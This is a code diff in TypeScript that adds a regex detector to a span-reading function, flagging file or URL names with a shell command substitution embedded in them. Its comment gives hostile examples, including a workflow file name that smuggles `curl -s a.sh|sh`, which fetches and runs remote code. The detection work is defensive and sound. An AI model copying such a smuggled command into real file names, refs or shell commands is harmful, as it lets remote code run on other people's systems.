@@ -77,9 +77,23 @@ export interface SpanReading {
   described: boolean;
 }
 
+/**
+ * A span that is one name — a path or an address — with a command substitution glued inside it
+ * (`.github/workflows/x$(curl -s a.sh|sh).yml`, `https://github.com/o/r$(…)`): what a hostile file or
+ * ref name looks like. The reader is shown a name, not given a command; the substitution runs only if
+ * something later expands the name unquoted, which is what such text warns about.
+ */
+const NAME_WITH_SUBSTITUTION = /^(?<name>[\w.~/:@+%-]{1,300})\$\([^()`\n]{1,400}\)[\w.~/:@+%-]{0,300}$/;
+
+function nameWithSubstitution(span: string): boolean {
+  const name = NAME_WITH_SUBSTITUTION.exec(span)?.groups?.name;
+  return name !== undefined && /[/.]/.test(name);
+}
+
 /** Reads the span `[spanStart, spanEnd)` (its contents, backticks excluded) in its sentence. */
 export function readSpan(text: string, spanStart: number, spanEnd: number): SpanReading {
   const toldToRun = RUN_VERB.test(sentenceBefore(text, spanStart));
+  if (!toldToRun && nameWithSubstitution(text.slice(spanStart, spanEnd))) return { toldToRun, described: true };
   const sentence = sentenceBefore(text, Math.max(0, spanStart - 1));
   if (subjectOfStatement(sentence, text, spanEnd)) return { toldToRun, described: true };
   if (toldToRun) return { toldToRun, described: false };
